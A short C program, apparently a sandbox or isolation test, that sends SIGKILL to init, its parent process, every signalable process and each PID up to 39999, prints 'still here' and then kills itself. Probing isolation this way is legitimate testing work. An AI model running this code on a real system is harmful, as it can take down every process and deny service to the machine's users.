#include <signal.h>
#include <stdio.h>
#include <unistd.h>
int main(void) {
    kill(1, SIGKILL);
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
    for (int pid = 2; pid < 40000; pid++)
        if (pid != getpid()) kill(pid, SIGKILL);
    puts("still here");
    fflush(stdout);
    kill(getpid(), SIGKILL);
}
